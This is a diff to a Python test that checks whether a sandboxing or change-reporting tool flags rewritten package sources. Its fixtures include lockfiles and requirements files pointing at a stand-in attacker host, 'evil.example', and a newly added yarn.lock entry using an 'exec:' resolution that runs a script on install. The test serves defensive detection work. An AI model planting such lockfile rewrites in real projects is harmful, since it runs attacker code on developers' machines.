@@ -2550,6 +2550,8 @@ PACKAGE_SOURCES = {
                            '"https://evil.example/x.tgz"}}}',
     "yarn.lock": 'lodash@^4:\n  version "4.17.21"\n'
                  '  resolved "https://evil.example/l.tgz#abc"\n',
+    "sub/yarn.lock": '"gen@exec:./gen.js":\n'
+                     '  resolution: "gen@exec:./gen.js"\n',
     "requirements.txt": "--index-url https://evil.example/simple\n"
                         "requests==2.0\n",
     "requirements-dev.txt": "pytest\n"
@@ -2567,9 +2569,11 @@ def test_package_sources_rewritten_are_flagged(lnk, work):
     lockfile's diff, and the user's next `npm ci`, `yarn` or `pip install
     -r` installs and runs that package's scripts outside. The report said
     "changed N files"."""
+    (work / "sub").mkdir()
     for name, text in PACKAGE_SOURCES.items():
         (work / f"{name}.new").write_text(text)
-    script = "; ".join(f"cat '{n}.new' > '{n}'" for n in PACKAGE_SOURCES)
+    script = "mkdir -p sub; " + "; ".join(f"cat '{n}.new' > '{n}'"
+                                          for n in PACKAGE_SOURCES)
     cp = lnk.run("--write", work, "--name", "psrc", "--", "/bin/sh", "-c",
                  f"cd '{work}' && {script}")
     assert cp.returncode == 0, cp.stderr
@@ -2578,6 +2582,7 @@ def test_package_sources_rewritten_are_flagged(lnk, work):
     assert not missing, (missing, flags, cp.stderr)
     assert "evil.example" in flags["package-lock.json"], flags
     assert "evil.example" in flags["yarn.lock"], flags
+    assert "exec:" in flags["sub/yarn.lock"], flags
     assert "index" in flags["requirements.txt"], flags
     # the registry's own tarballs and plain pins say nothing
     (work / "package-lock.json.new").write_text(
